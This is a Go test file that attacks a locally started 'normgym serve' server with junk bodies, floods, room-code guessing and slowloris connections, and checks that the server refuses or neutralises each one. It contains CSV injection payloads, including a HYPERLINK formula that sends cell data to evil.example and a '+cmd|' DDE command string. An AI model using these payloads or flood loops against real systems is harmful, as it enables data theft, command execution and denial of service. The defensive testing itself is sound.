package cli

import (
	"bufio"
	"bytes"
	"context"
	"crypto/rand"
	"database/sql"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/normgym/normgym/serve/api"
	"github.com/normgym/normgym/serve/server"
	"github.com/normgym/normgym/sim"
	"github.com/normgym/normgym/wasm/simwasm"
)

// TestHostileClients starts a real `normgym serve` (Main in a process of
// its own, this test binary run again: the sim.wasm verifier, a SQLite
// file, the web app if built, the default limits) on loopback and sends
// it what a hostile client would:
// junk bodies, floods of every write and of reads, room-code guessing,
// formula names for the CSV exports, slow and piled-up connections, and
// checks the headers against framing and sniffing. Attackers connect from
// their own loopback addresses (127.0.0.2…), as separate clients do; the
// honest client from 127.0.0.1.
//
// It asserts that every hostile request is refused or stored harmlessly,
// that memory stays flat under junk (the process's RSS after 100 junk
// bodies within 50 MiB of idle), and that the server stays responsive:
// the p95 latency of honest submissions under attack is within 2× of the
// p95 when idle (short windows of idle and attack alternate, so that other
// load on the machine falls on both alike).
func TestHostileClients(t *testing.T) {
	if testing.Short() {
		t.Skip("hostile: skipped in -short mode (it runs a server under attack for about half a minute)")
	}
	start := time.Now()
	h := startServe(t)

	// Warm up: both sim.wasm instances (the pool holds GOMAXPROCS), the
	// leaderboard, the static files.
	honest := newHonest(t, h)
	var wg sync.WaitGroup
	for range 2 {
		wg.Add(1)
		go func() { defer wg.Done(); honest.submit() }()
	}
	wg.Wait()
	for range 4 {
		honest.submit()
	}

	t.Run("headers", func(t *testing.T) { checkHeaders(t, h) })

	// Memory under junk: 100 junk bodies of the costliest kinds, spread
	// over addresses so that each is read and checked (not just refused
	// by the rate limit).
	t.Run("memory", func(t *testing.T) {
		idle := rss(t, h.pid)
		junk := junkBodies(t, honest.sub)
		refused := 0
		for i := range 100 {
			c := clientFrom(fmt.Sprintf("127.0.1.%d", 1+i/20))
			st := c.post(t, h.base+"/api/runs", junk[i%len(junk)].body, nil)
			if st/100 == 4 && st != http.StatusTooManyRequests {
				refused++
			}
		}
		after := rss(t, h.pid)
		t.Logf("RSS idle %.1f MiB, after 100 junk bodies %.1f MiB (%d refused as junk)", mib(idle), mib(after), refused)
		if refused != 100 {
			t.Errorf("%d of 100 junk bodies refused as junk (4xx but 429), want all", refused)
		}
		if after > idle+50<<20 {
			t.Errorf("RSS grew from %.1f to %.1f MiB after 100 junk bodies, want at most +50 MiB", mib(idle), mib(after))
		}
	})

	// Windows: idle, then under attack, alternating, short (one honest
	// submission each) so that other load on the machine falls on both
	// alike. The attackers (one address each, for the whole test) pause in
	// the idle windows; the slow connections go on throughout.
	var idleLat, attackLat []time.Duration
	stats := &attackStats{started: time.Now()}
	var active atomic.Bool
	ctx, stop := context.WithCancel(context.Background())
	var aw sync.WaitGroup
	for _, a := range attackers(h, honest.sub, stats) {
		aw.Add(1)
		go func() { defer aw.Done(); a.run(ctx, &active, stats) }()
	}
	for range pairs {
		active.Store(false)
		time.Sleep(20 * time.Millisecond) // let the attack pause
		idleLat = append(idleLat, honest.batch(perWindow)...)
		active.Store(true)
		time.Sleep(20 * time.Millisecond) // let the attack resume
		attackLat = append(attackLat, honest.batch(perWindow)...)
	}
	stop()
	aw.Wait()
	stats.elapsed = time.Since(stats.started)
	pi, pa := p95(idleLat), p95(attackLat)
	t.Logf("honest submissions: idle p50 %s p95 %s; under attack p50 %s p95 %s (%d each)", p50(idleLat), pi, p50(attackLat), pa, len(idleLat))
	t.Logf("attack over %s: %s", stats.elapsed.Round(time.Millisecond), stats)
	t.Logf("slowest idle %v; slowest under attack %v", tail(idleLat, 5), tail(attackLat, 5))
	if pa > 2*pi {
		t.Errorf("p95 of honest submissions under attack %s, more than twice the idle %s", pa, pi)
	}
	if n := honest.failed.Load(); n > 0 {
		t.Errorf("%d honest submissions failed", n)
	}
	stats.check(t)
	if sl := stats.slow; sl.opened == 0 || sl.closedEarly == 0 || sl.closedLate == 0 {
		t.Errorf("slow connections: %+v, want some closed at once (over 32 from one address), others by the 1 s header timeout", sl)
	}

	t.Run("csv", func(t *testing.T) { checkCSV(t, h, honest) })
	t.Run("guessing", func(t *testing.T) { checkGuessing(t, h, stats) })
	t.Run("database", func(t *testing.T) { checkDatabase(t, h, stats) })
	t.Logf("whole test %s", time.Since(start).Round(time.Millisecond))
}

// served is a running normgym serve.
type served struct {
	base, db, adminToken, teacherKey string
	pid                              int
	log                              *syncBuffer
}

type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

// hostileServeEnv carries the serve arguments to TestHostileServer in the
// child process, one per line.
const hostileServeEnv = "NORMGYM_HOSTILE_SERVE"

// TestHostileServer is not a test: run by TestHostileClients in a process
// of its own (this binary, with $NORMGYM_HOSTILE_SERVE), it is
// `normgym serve` until SIGTERM.
func TestHostileServer(t *testing.T) {
	args := os.Getenv(hostileServeEnv)
	if args == "" {
		t.Skip("the server process of TestHostileClients")
	}
	os.Exit(Main(context.Background(), strings.Split(args, "\n"), nil, os.Stdout, os.Stderr))
}

// startServe starts normgym serve in a child process until the test ends
// and returns its address.
func startServe(t *testing.T) *served {
	t.Helper()
	dir := t.TempDir()
	h := &served{db: filepath.Join(dir, "normgym.db"), adminToken: randomHex(16), log: &syncBuffer{}}
	key, line, err := server.NewTeacherKey("hostile-test")
	if err != nil {
		t.Fatal(err)
	}
	h.teacherKey = key
	keys := filepath.Join(dir, "teachers")
	if err := os.WriteFile(keys, []byte(line+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	web, _ := filepath.Abs(filepath.Join("..", "..", "build", "web"))
	if _, err := os.Stat(filepath.Join(web, "index.html")); err != nil {
		web = t.TempDir() // an empty folder: the "not built" page
	}
	args := []string{"serve", "--addr", "127.0.0.1:0", "--db", h.db, "--web", web, "--teacher-keys", keys, "--baselines", "none",
		"--admin-token-env", "NORMGYM_HOSTILE_ADMIN", "--max-conns-per-ip", "32", "--read-header-timeout", "1s"}
	cmd := exec.Command(os.Args[0], "-test.run=^TestHostileServer$", "-test.count=1")
	cmd.Env = append(os.Environ(), hostileServeEnv+"="+strings.Join(args, "\n"), "NORMGYM_HOSTILE_ADMIN="+h.adminToken)
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	cmd.Stderr = h.log
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	h.pid = cmd.Process.Pid
	done := make(chan error, 1)
	addr := make(chan string, 1)
	go func() {
		sc := bufio.NewScanner(out)
		for sc.Scan() {
			if a, ok := strings.CutPrefix(sc.Text(), "normgym: serving on "); ok {
				addr <- strings.Fields(a)[0]
			}
		}
		done <- cmd.Wait()
	}()
	t.Cleanup(func() {
		cmd.Process.Signal(syscall.SIGTERM)
		select {
		case err := <-done:
			if err != nil {
				t.Errorf("normgym serve: %v\n%s", err, h.log)
			}
		case <-time.After(20 * time.Second):
			cmd.Process.Kill()
			t.Error("normgym serve did not stop within 20 s of SIGTERM")
		}
	})
	select {
	case a := <-addr:
		h.base = a
	case err := <-done:
		t.Fatalf("normgym serve exited: %v: %s", err, h.log)
	case <-time.After(60 * time.Second):
		t.Fatalf("normgym serve did not start within 60 s: %s", h.log)
	}
	return h
}

// client is an HTTP client whose connections come from one loopback
// address.
type client struct{ c *http.Client }

var clients sync.Map // address → *client

func clientFrom(ip string) *client {
	if c, ok := clients.Load(ip); ok {
		return c.(*client)
	}
	d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(ip)}, Timeout: 5 * time.Second}
	tr := &http.Transport{DialContext: d.DialContext, MaxIdleConnsPerHost: 8, DisableCompression: true}
	c := &client{&http.Client{Transport: tr, Timeout: 30 * time.Second}}
	clients.Store(ip, c)
	return c
}

// do sends a request and returns its status (0 for a failed connection),
// body and headers.
func (c *client) do(ctx context.Context, method, url string, body []byte, header []string) (int, []byte, http.Header) {
	var rd io.Reader
	if body != nil {
		rd = bytes.NewReader(body)
	}
	req, err := http.NewRequestWithContext(ctx, method, url, rd)
	if err != nil {
		return 0, nil, nil
	}
	if body != nil {
		req.Header.Set("Content-Type", "application/json")
	}
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	resp, err := c.c.Do(req)
	if err != nil {
		return 0, nil, nil
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 4<<20))
	return resp.StatusCode, b, resp.Header
}

func (c *client) post(t *testing.T, url string, body []byte, header []string) int {
	st, _, _ := c.do(context.Background(), "POST", url, body, header)
	return st
}

// honest is the honest clients: programs submitting model runs (a
// baseline's records renamed: baselines are the server's own), each
// within the default write rate (5 a second, a burst of 60), from
// 127.0.0.1, 127.0.0.2 and 127.0.0.3 in turn.
type honest struct {
	t      *testing.T
	h      *served
	cs     []*client
	sub    api.Submission
	recs   []sim.Record
	n      int
	failed atomic.Int64
}

func newHonest(t *testing.T, h *served) *honest {
	mini, err := sim.LookupSuite("mini")
	if err != nil {
		t.Fatal(err)
	}
	o := &honest{t: t, h: h, cs: []*client{clientFrom("127.0.0.1"), clientFrom("127.0.0.2"), clientFrom("127.0.0.3")}}
	for _, v := range mini.Visits[:6] {
		rec, err := nativeEngine{}.RunBaseline(context.Background(), v, "observer")
		if err != nil {
			t.Fatal(err)
		}
		rec.SimSHA256 = simwasm.SHA256()
		rec.Client, rec.Agent = "model", "observer-model"
		o.recs = append(o.recs, rec)
	}
	o.sub = api.Submission{RunID: randomHex(12), Consent: true, ConsentVersion: server.ConsentVersion, Record: o.recs[0]}
	return o
}

// submit posts a new run and returns how long the answer took.
func (o *honest) submit() time.Duration {
	o.n++
	sub := api.Submission{RunID: randomHex(12), Consent: true, ConsentVersion: server.ConsentVersion, Record: o.recs[o.n%len(o.recs)]}
	body, _ := json.Marshal(sub)
	t0 := time.Now()
	st, b, _ := o.cs[o.n%len(o.cs)].do(context.Background(), "POST", o.h.base+"/api/runs", body, nil)
	d := time.Since(t0)
	if st != http.StatusCreated {
		o.failed.Add(1)
		o.t.Errorf("honest submission %d: %d %.200s", o.n, st, b)
	}
	return d
}

// pairs is how many times the test alternates an idle window and an
// attack window of perWindow honest submissions each.
const (
	pairs     = 150
	perWindow = 1
)

// honestPace is the most often the honest clients submit: the 306
// submissions of the test, in about 16 s from three addresses, stay
// within the write limit of each (a burst of 60 and 5 a second).
const honestPace = 50 * time.Millisecond

// batch submits n runs, one every honestPace at most, and returns their
// latencies.
func (o *honest) batch(n int) []time.Duration {
	var out []time.Duration
	for range n {
		t0 := time.Now()
		out = append(out, o.submit())
		if rest := honestPace - time.Since(t0); rest > 0 {
			time.Sleep(rest)
		}
	}
	return out
}

// junk is a hostile body and the status it must get.
type junk struct {
	name string
	body []byte
}

// junkBodies returns the junk the tests send: each near the body bound.
func junkBodies(t *testing.T, sub api.Submission) []junk {
	good, _ := json.Marshal(sub)
	edit := func(f func(*sim.Record)) []byte {
		s := sub
		b, _ := json.Marshal(sub.Record)
		s.Record = sim.Record{} // a deep copy: Unmarshal would reuse the slices
		json.Unmarshal(b, &s.Record)
		f(&s.Record)
		out, _ := json.Marshal(s)
		return out
	}
	many := edit(func(r *sim.Record) {
		r.Actions = r.Actions[:0]
		for len(r.Actions) < 15000 {
			r.Actions = append(r.Actions, "n")
		}
	})
	deep := strings.Repeat("[", 20000) + strings.Repeat("]", 20000)
	return []junk{
		{"15,000 actions", many},
		{"duplicate consent", bytes.Replace(good, []byte(`"consent":true`), []byte(`"consent":false,"consent":true`), 1)},
		{"20,000-deep extra", bytes.Replace(good, []byte(`"record":{`), []byte(`"record":{"extra":{"x":`+deep+`},`), 1)},
		{"invalid UTF-8", bytes.Replace(good, []byte(`"agent":"observer-model"`), []byte("\"agent\":\"obs\xff\xfeerver-model\""), 1)},
		{"1 MiB", append(append([]byte(`{"run_id":"`), bytes.Repeat([]byte("x"), 1<<20)...), `"}`...)},
		{"events", edit(func(r *sim.Record) { r.Events = make([]sim.Event, 1000) })},
	}
}

// attacker is one hostile client: a loop of requests from its address,
// paced (the attackers run on the server's own 2 cores here, where a
// real one would not).
type attacker struct {
	name, ip string
	// class is the rate-limit class its requests draw from.
	class string
	pace  time.Duration
	next  func(i int) (method, path string, body []byte, header []string)
	// expect checks each answer's status (and counts it).
	expect func(st int, body []byte, h http.Header, s *attackStats)
	// slow, if set, is the whole attack instead of next.
	slow func(ctx context.Context)
}

// attackStats counts what the attackers got.
type attackStats struct {
	mu      sync.Mutex
	counts  map[string]map[int]int // attacker → status → n
	classes map[string]string      // attacker → rate-limit class
	bad     []string
	guesses int
	guessed int // look-ups answered (not 429)
	found   int // look-ups that found a room
	slow    slowStats
	// started and elapsed time the attack phase.
	started time.Time
	elapsed time.Duration
}

// slowStats counts slow connections: opened, closed by the server at
// once (over the per-address bound) and closed by it later (the header
// read timeout).
type slowStats struct{ opened, closedEarly, closedLate int }

func (s *attackStats) add(name string, st int) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.counts == nil {
		s.counts = map[string]map[int]int{}
	}
	if s.counts[name] == nil {
		s.counts[name] = map[int]int{}
	}
	s.counts[name][st]++
}

func (s *attackStats) fail(format string, a ...any) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if len(s.bad) < 20 {
		s.bad = append(s.bad, fmt.Sprintf(format, a...))
	}
}

func (s *attackStats) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	var names []string
	for n := range s.counts {
		names = append(names, n)
	}
	slices.Sort(names)
	var parts []string
	for _, n := range names {
		var sts []int
		for st := range s.counts[n] {
			sts = append(sts, st)
		}
		slices.Sort(sts)
		var ps []string
		for _, st := range sts {
			ps = append(ps, fmt.Sprintf("%d×%d", s.counts[n][st], st))
		}
		parts = append(parts, n+" "+strings.Join(ps, " "))
	}
	return strings.Join(parts, "; ") + fmt.Sprintf("; slow connections: %d opened, %d closed at once (per-address bound), %d closed by the header timeout",
		s.slow.opened, s.slow.closedEarly, s.slow.closedLate)
}

func (s *attackStats) check(t *testing.T) {
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, b := range s.bad {
		t.Error(b)
	}
	for name, c := range s.counts {
		// What the limit lets through in the time of the attack, and a
		// little for requests cut short at its end.
		total := 0
		for _, n := range c {
			total += n
		}
		answered := total - c[http.StatusTooManyRequests] - c[0]
		rate := server.DefaultLimits()[s.classes[name]]
		allowed := rate.Burst + int(rate.PerSecond()*s.elapsed.Seconds()) + 2
		if !rate.Unlimited() && answered > allowed {
			t.Errorf("attacker %s (%s): %d requests answered, more than its limit %s lets through in %s (%d)", name, s.classes[name],
				answered, rate, s.elapsed.Round(time.Millisecond), allowed)
		}
		if !rate.Unlimited() && total > allowed+10 && c[http.StatusTooManyRequests] == 0 {
			t.Errorf("attacker %s sent %d requests, over its limit %s, and was never refused with 429: %v", name, total, rate, c)
		}
		if c[0] > 0 {
			t.Errorf("attacker %s: %d requests got no answer at all", name, c[0])
		}
		for st, n := range c {
			if st >= 500 {
				t.Errorf("attacker %s got %d answers of %d", name, n, st)
			}
		}
	}
}

// run attacks until ctx ends, pausing while active is false (slow
// attacks go on throughout).
func (a attacker) run(ctx context.Context, active *atomic.Bool, s *attackStats) {
	s.mu.Lock()
	if s.classes == nil {
		s.classes = map[string]string{}
	}
	s.classes[a.name] = a.class
	s.mu.Unlock()
	if a.slow != nil {
		a.slow(ctx)
		return
	}
	c := clientFrom(a.ip)
	for i := 0; ctx.Err() == nil; i++ {
		if !active.Load() {
			time.Sleep(2 * time.Millisecond)
			continue
		}
		method, path, body, header := a.next(i)
		st, b, h := c.do(ctx, method, path, body, header)
		if ctx.Err() != nil {
			return
		}
		s.add(a.name, st)
		if a.expect != nil {
			a.expect(st, b, h, s)
		}
		select {
		case <-ctx.Done():
		case <-time.After(a.pace):
		}
	}
}

// attackPace is the pause between two requests of one attacker: about
// 100 requests a second each, 700 in all, 20 to 400 times what the
// limits let through. The attackers run on the server's own 2 cores here
// (a real attacker's CPU is its own), so a faster loop would measure the
// load generator, not the server.
const attackPace = 10 * time.Millisecond

// attackers returns the attackers, each from its own address.
func attackers(h *served, sub api.Submission, stats *attackStats) []attacker {
	ip := func(k int) string { return fmt.Sprintf("127.0.2.%d", k) }
	junk := junkBodies(nil, sub)
	is4xx := func(name string) func(int, []byte, http.Header, *attackStats) {
		return func(st int, b []byte, _ http.Header, s *attackStats) {
			if st/100 != 4 {
				s.fail("%s: answer %d %.200s, want a 4xx", name, st, b)
			}
		}
	}
	evil := sub
	evil.Record.Client, evil.Record.Agent = "model", `=HYPERLINK("http://evil.example/?"&A1,"open")` // refused: not a model's name
	return []attacker{
		{name: "junk", class: server.ClassWrite, ip: ip(1), pace: attackPace, next: func(i int) (string, string, []byte, []string) {
			return "POST", h.base + "/api/runs", junk[i%len(junk)].body, nil
		}, expect: is4xx("junk")},
		{name: "leaderboard", class: server.ClassRead, ip: ip(2), pace: attackPace, next: func(i int) (string, string, []byte, []string) {
			return "GET", h.base + "/api/leaderboard?suite=standard", nil, nil
		}},
		{name: "rooms", class: server.ClassRooms, ip: ip(3), pace: attackPace, next: func(i int) (string, string, []byte, []string) {
			return "POST", h.base + "/api/rooms", []byte(`{"suite":"standard"}`), nil
		}, expect: is4xx("rooms")},
		{name: "rooms-with-key", class: server.ClassRooms, ip: ip(4), pace: attackPace, next: func(i int) (string, string, []byte, []string) {
			return "POST", h.base + "/api/rooms", []byte(`{"suite":"standard"}`), []string{"Authorization", "Bearer " + h.teacherKey}
		}},
		{name: "assign", class: server.ClassWrite, ip: ip(5), pace: attackPace, next: func(i int) (string, string, []byte, []string) {
			return "POST", h.base + "/api/assign", []byte(fmt.Sprintf(`{"participant":"flood-%08d"}`, i)), nil
		}},
		{name: "guess", class: server.ClassLookup, ip: ip(6), pace: attackPace, next: func(i int) (string, string, []byte, []string) {
			return "GET", h.base + "/api/rooms/" + randomCode(), nil, nil
		}, expect: func(st int, b []byte, _ http.Header, s *attackStats) {
			s.mu.Lock()
			defer s.mu.Unlock()
			s.guesses++
			if st != http.StatusTooManyRequests {
				s.guessed++
			}
			if st == http.StatusOK {
				s.found++
			}
		}},
		{name: "injection", class: server.ClassWrite, ip: ip(7), pace: time.Second, next: func(i int) (string, string, []byte, []string) {
			e := evil
			e.RunID = randomHex(12)
			e.Participant = fmt.Sprintf("+cmd|'/c_calc'!A%d", i)
			b, _ := json.Marshal(e)
			return "POST", h.base + "/api/runs", b, nil
		}},
		{name: "static", class: server.ClassRead, ip: ip(8), pace: attackPace, next: func(i int) (string, string, []byte, []string) {
			return "GET", h.base + "/teach", nil, nil
		}},
		{name: "connections", slow: func(ctx context.Context) {
			for ctx.Err() == nil {
				opened, early, late := slowConnections(ctx, h, ip(10), 64, 1500*time.Millisecond)
				stats.mu.Lock()
				stats.slow.opened += opened
				stats.slow.closedEarly += early
				stats.slow.closedLate += late
				stats.mu.Unlock()
			}
		}},
	}
}

// slowConnections opens n connections from ip that send part of a
// request's headers and stall (slowloris) until ctx ends or for wait. It
// returns how many opened, how many the server closed within half a
// second (over the per-address bound) and how many it closed later (the
// header read timeout).
func slowConnections(ctx context.Context, h *served, ip string, n int, wait time.Duration) (opened, early, late int) {
	ctx, cancel := context.WithTimeout(ctx, wait)
	defer cancel()
	d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(ip)}, Timeout: 2 * time.Second}
	addr := strings.TrimPrefix(h.base, "http://")
	type slow struct {
		c       net.Conn
		at, end time.Time
	}
	var conns []*slow
	for range n {
		c, err := d.DialContext(ctx, "tcp", addr)
		if err != nil {
			continue
		}
		c.Write([]byte("GET /healthz HTTP/1.1\r\nHost: x\r\n"))
		conns = append(conns, &slow{c: c, at: time.Now()})
	}
	var wg sync.WaitGroup
	for _, sc := range conns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			io.Copy(io.Discard, sc.c)
			if ctx.Err() == nil {
				sc.end = time.Now()
			}
		}()
	}
	<-ctx.Done()
	for _, sc := range conns {
		sc.c.Close()
	}
	wg.Wait()
	for _, sc := range conns {
		switch {
		case sc.end.IsZero():
		case sc.end.Sub(sc.at) < 500*time.Millisecond:
			early++
		default:
			late++
		}
	}
	return len(conns), early, late
}

// randomCode returns a random well-formed room code.
func randomCode() string {
	b := make([]byte, api.RoomCodeLen)
	rand.Read(b)
	for i := range b {
		b[i] = api.RoomAlphabet[int(b[i])%len(api.RoomAlphabet)]
	}
	c, _ := api.NormalizeRoomCode(string(b))
	return c
}

// checkHeaders: no page, answer or file can be framed or sniffed.
func checkHeaders(t *testing.T, h *served) {
	c := clientFrom("127.0.0.1")
	for _, p := range []string{"/", "/teach", "/teach.js", "/leaderboard", "/api/leaderboard", "/healthz", "/api/nope", "/nope.js", "/api/consent"} {
		st, _, hd := c.do(context.Background(), "GET", h.base+p, nil, nil)
		if st == 0 {
			t.Fatalf("GET %s: no answer", p)
		}
		for k, v := range server.SecurityHeaders() {
			if hd.Get(k) != v {
				t.Errorf("GET %s (%d): %s = %q, want %q", p, st, k, hd.Get(k), v)
			}
		}
		if !strings.Contains(hd.Get("Content-Security-Policy"), "frame-ancestors 'none'") || hd.Get("X-Frame-Options") != "DENY" {
			t.Errorf("GET %s can be framed", p)
		}
	}
}

// checkCSV: formula names reach both CSV exports neutralised. (A model's
// name can no longer hold one, api.CheckModelName; a program's participant
// name can, and the room's CSV shows nicknames, not participants.)
func checkCSV(t *testing.T, h *served, o *honest) {
	c := clientFrom("127.0.0.1")
	// A room with an injected run in it, made by a teacher.
	st, b, _ := c.do(context.Background(), "POST", h.base+"/api/rooms", []byte(`{"suite":"mini"}`), []string{"Authorization", "Bearer " + h.teacherKey})
	var room api.RoomCreated
	if st != http.StatusCreated || json.Unmarshal(b, &room) != nil {
		t.Fatalf("creating a room: %d %s", st, b)
	}
	sub := api.Submission{RunID: randomHex(12), Participant: "=SUM(A1:A9)", Consent: true, Room: room.Code, Record: o.recs[1]}
	sub.Record.Client, sub.Record.Agent = "model", "gpt-x"
	body, _ := json.Marshal(sub)
	if st, b, _ := c.do(context.Background(), "POST", h.base+"/api/runs", body, nil); st != http.StatusCreated {
		t.Fatalf("storing a run with formula names: %d %s", st, b)
	}
	for _, e := range []struct{ path, token string }{
		{"/api/export?format=csv", h.adminToken},
		{"/api/rooms/" + room.Code + "/export.csv", room.TeacherToken},
	} {
		st, b, _ := c.do(context.Background(), "GET", h.base+e.path, nil, []string{"Authorization", "Bearer " + e.token})
		if st != 200 {
			t.Fatalf("GET %s: %d %.200s", e.path, st, b)
		}
		var lines []string
		for _, l := range strings.Split(string(b), "\n") {
			if !strings.HasPrefix(l, "# ") {
				lines = append(lines, l)
			}
		}
		rows, err := csv.NewReader(strings.NewReader(strings.Join(lines, "\n"))).ReadAll()
		if err != nil {
			t.Fatalf("GET %s: %v", e.path, err)
		}
		formulas := 0
		for _, r := range rows {
			for _, cell := range r {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("GET %s: cell %q would run as a formula", e.path, cell)
				}
				if strings.HasPrefix(cell, "'=") || strings.HasPrefix(cell, "'+") || strings.HasPrefix(cell, "'-") || strings.HasPrefix(cell, "'@") {
					formulas++
				}
			}
		}
		if formulas == 0 && e.token == h.adminToken {
			t.Errorf("GET %s: no neutralised formula among %d rows (the injected names are missing)", e.path, len(rows))
		}
	}
}

// checkGuessing: random codes found no room, and the look-ups answered
// stayed within the rate limit.
func checkGuessing(t *testing.T, h *served, s *attackStats) {
	rate := server.DefaultLimits()[server.ClassLookup]
	s.mu.Lock()
	defer s.mu.Unlock()
	allowed := rate.Burst + int(s.elapsed.Seconds()*rate.PerSecond()) + 2
	t.Logf("room-code guessing: %d look-ups, %d answered (allowed %d), %d found", s.guesses, s.guessed, allowed, s.found)
	if s.found > 0 {
		t.Errorf("%d random codes found a room", s.found)
	}
	if s.guessed > allowed {
		t.Errorf("%d look-ups answered in %s, more than the limit allows (%d)", s.guessed, s.elapsed, allowed)
	}
}

// checkDatabase: the floods wrote what the limits allow and no more.
func checkDatabase(t *testing.T, h *served, s *attackStats) {
	db, err := sql.Open("sqlite", "file:"+h.db+"?mode=ro")
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	count := func(q string) int {
		var n int
		if err := db.QueryRow(q).Scan(&n); err != nil {
			t.Fatalf("%s: %v", q, err)
		}
		return n
	}
	s.mu.Lock()
	elapsed := s.elapsed
	assigned := s.counts["assign"][http.StatusOK]
	rooms := s.counts["rooms-with-key"][http.StatusCreated]
	openRooms := s.counts["rooms"][http.StatusCreated]
	s.mu.Unlock()
	pending := count(`SELECT COUNT(*) FROM assignments WHERE participant LIKE 'flood-%'`)
	w := server.DefaultLimits()[server.ClassWrite]
	t.Logf("floods stored: %d pending assignments, %d rooms (with a key), %d rooms without one", pending, rooms, openRooms)
	if pending < assigned || pending > w.Burst+int(w.PerSecond()*elapsed.Seconds())+2 {
		t.Errorf("%d pending assignments from the flood (%d answered 200), want at most the write limit", pending, assigned)
	}
	if openRooms != 0 || count(`SELECT COUNT(*) FROM rooms WHERE teacher = ''`) != 0 {
		t.Errorf("rooms were created without a teacher key")
	}
	if r := server.DefaultLimits()[server.ClassRooms]; rooms > r.Burst+1 {
		t.Errorf("%d rooms created by one teacher key's flood, want at most the limit (%s)", rooms, r)
	}
}

// rss returns a process's resident memory.
func rss(t *testing.T, pid int) uint64 {
	t.Helper()
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		t.Skipf("no /proc/PID/status: %v", err)
	}
	for _, l := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(l, "VmRSS:"); ok {
			kb, err := strconv.ParseUint(strings.TrimSuffix(strings.TrimSpace(v), " kB"), 10, 64)
			if err == nil {
				return kb << 10
			}
		}
	}
	t.Fatal("no VmRSS in /proc/PID/status")
	return 0
}

func mib(b uint64) float64 { return float64(b) / (1 << 20) }

func quantile(d []time.Duration, q float64) time.Duration {
	s := slices.Clone(d)
	slices.Sort(s)
	return s[min(len(s)-1, int(q*float64(len(s))))].Round(time.Millisecond)
}

func p50(d []time.Duration) time.Duration { return quantile(d, 0.5) }

// tail returns the n largest of d, rounded.
func tail(d []time.Duration, n int) []time.Duration {
	s := slices.Clone(d)
	slices.Sort(s)
	s = s[max(0, len(s)-n):]
	for i := range s {
		s[i] = s[i].Round(time.Millisecond)
	}
	return s
}
func p95(d []time.Duration) time.Duration { return quantile(d, 0.95) }

func randomHex(n int) string {
	b := make([]byte, n)
	rand.Read(b)
	return hex.EncodeToString(b)
}
